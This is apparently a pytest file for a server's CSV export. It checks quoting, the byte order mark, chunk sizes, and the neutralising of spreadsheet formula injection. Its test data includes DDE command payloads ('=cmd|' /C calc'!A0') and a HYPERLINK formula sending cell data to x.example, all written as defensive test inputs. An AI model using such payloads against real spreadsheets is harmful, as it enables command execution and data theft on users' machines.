"""Answers as CSV: what is written into a cell, and that no cell is taken for a formula."""

import re
import sys
import unicodedata
from typing import Any

import pytest

from server.query.flat import csv_lines
from tests.support.tables import BOM, cell, fields, json_values, table


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-7, "-7"),
        (2**63, "9223372036854775808"),
        (-1.2109178, "-1.2109178"),
        (0.1 + 0.2, "0.30000000000000004"),
        (100.0, "100.0"),
        (1e300, "1e300"),
        (-1e-7, "-1e-7"),
        (float("nan"), ""),
        ("", ""),
        ("00123", "00123"),
        ("naïve 気温", "naïve 気温"),
        ('say "no", twice', 'say "no", twice'),
        ("one\r\ntwo\nthree\rfour", "one\r\ntwo\nthree\rfour"),
        (" leading and trailing ", " leading and trailing "),
        ("nul\x00", "nul\x00"),
        ("'quoted", "'quoted"),
    ],
)
def test_a_cell_is_the_value(value: Any, written: str) -> None:
    assert cell(value) == written


def test_lines_end_as_rfc_4180_says_and_only_what_needs_it_is_quoted() -> None:
    query = "{ jobs { jobId jobTitle totalDuration } }"
    job = {"jobId": "j", "jobTitle": 'a, "b"', "totalDuration": 1}
    content = b"".join(csv_lines(fields(query), {"jobs": [job]}))
    assert content == BOM + b'jobId,jobTitle,totalDuration\r\nj,"a, ""b""",1\r\n'


def test_a_row_of_one_empty_cell_is_not_an_empty_line() -> None:
    data = {"jobs": [{"jobId": None}, {"jobId": ""}, None]}
    content = b"".join(csv_lines(fields("{ jobs { jobId } }"), data))
    assert content == BOM + b'jobId\r\n""\r\n""\r\n""\r\n'


FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "bar": "|calc",
    "percent": "%A1",
    "a sign alone": "=",
    "a command": "=cmd|' /C calc'!A0",
    "a command behind a number": "-1+cmd|' /C calc'!A0",
    "a number and more": "-12.5 bar",
    "a number and a line": "-12.5\n",
    "two signs": "--1",
    "digits of another script": "-١٢",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(A1)",
    "full-width bar": "｜calc",
    "full-width percent": "％A1",
    "small equals": "﹦1",
    "a minus sign": "\u22121",
    "behind a tab": "\t=1",
    "behind CR": "\r=1",
    "behind LF": "\n=1",
    "behind CRLF": "\r\n=1",
    "behind spaces": "   =1",
    "behind NBSP": "\u00a0=1",
    "behind an ideographic space": "\u3000=1",
    "behind a zero-width space": "\u200b=1",
    "behind a zero-width joiner": "\u200d=1",
    "behind a BOM": "\ufeff=1",
    "behind a mark of direction": "\u202e=1",
    "behind a soft hyphen": "\u00ad=1",
    "behind a line separator": "\u2028=1",
    "behind NUL": "\x00=1",
    "behind a variation selector": "\ufe0f=1",
    "behind a Hangul filler": "\u3164=1",
    "behind a mix": " \u200b\t\ufeff\u00a0\r\n=1",
    "a number behind a space": " -12.5",
    "with a comma": '=HYPERLINK("http://x.example/?"&A1,"more")',
    "with lines": "=1\r\n+2",
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_text_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-12.5", "+4.5e3", "-0", "+49", "-.5", "-12.", "-1E+10", "+00041791234567", "-7.5987e-3"]
)
def test_a_text_that_is_a_plain_number_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    "text",
    ["a=1", "1-2", "(-1)", '"=1"', "é=1", "你好=1", "/-", ".-", "²=", "'=1", "#=1", "\u00a0", " \t", "😀=1"],
)
def test_a_sign_behind_something_visible_is_no_formula(text: str) -> None:
    assert cell(text) == text


def test_every_character_that_stands_for_a_sign_counts_as_one() -> None:
    signs = [
        chr(code)
        for code in range(sys.maxunicode + 1)
        if not 0xD800 <= code < 0xE000 and unicodedata.normalize("NFKC", chr(code))[0] in "=+-@|%\u2212"
    ]
    assert len(signs) > 25
    jobs = [{"jobTitle": f"{sign}A1"} for sign in signs]
    _, *rows = table("{ jobs { jobTitle } }", {"jobs": jobs})
    assert rows == [[f"'{sign}A1"] for sign in signs]


def test_formulas_are_found_wherever_texts_are() -> None:
    query = "{ jobs { workflowTags metadata { value } steps { values } } }"
    job = {
        "workflowTags": ["=1", "ok"],
        "metadata": [{"value": {"deep": ["=2"]}}],
        "steps": [{"values": ["=3", "=4"]}],
    }
    _, row = table(query, {"jobs": [job]})
    assert [text for text in row if text] == ["'=1", "ok", "'=2", "'=3", "'=4"]


def test_names_of_columns_cannot_begin_a_formula_or_break_out_of_their_cell() -> None:
    header, row = json_values({"=cmd|'x'!A0,\"\r\n=1": 1, "": 2, "\ud800": 3})
    assert header == ["value", "value.=cmd|'x'!A0,\"\r\n=1", "value.", "value.\ufffd"]
    assert row == ["", "1", "2", "3"]


@pytest.mark.parametrize("text", ["\ud800", "a\udfffb", "\udc00\ud800", "\ud800=1"])
def test_half_a_character_is_replaced(text: str) -> None:
    written = cell(text)
    assert re.fullmatch(r"'?" + re.sub("[\ud800-\udfff]", "\ufffd", text), written)


def test_non_ascii_text_begins_with_a_byte_order_mark_once() -> None:
    job = {"jobTitle": "Übergabe " * 20_000}
    chunks = list(csv_lines(fields("{ jobs { jobTitle } }"), {"jobs": [job, job]}))
    assert len(chunks) > 1
    content = b"".join(chunks)
    assert content.startswith(BOM)
    assert content.count(BOM) == 1


def test_chunks_are_about_64_kb_and_end_with_a_line() -> None:
    jobs = [{"jobTitle": "ü" * 500} for _ in range(1_000)]
    chunks = list(csv_lines(fields("{ jobs { jobTitle } }"), {"jobs": jobs}))
    assert all(chunk.endswith(b"\r\n") for chunk in chunks)
    assert all(64_000 < len(chunk) < 140_000 for chunk in chunks[:-1])
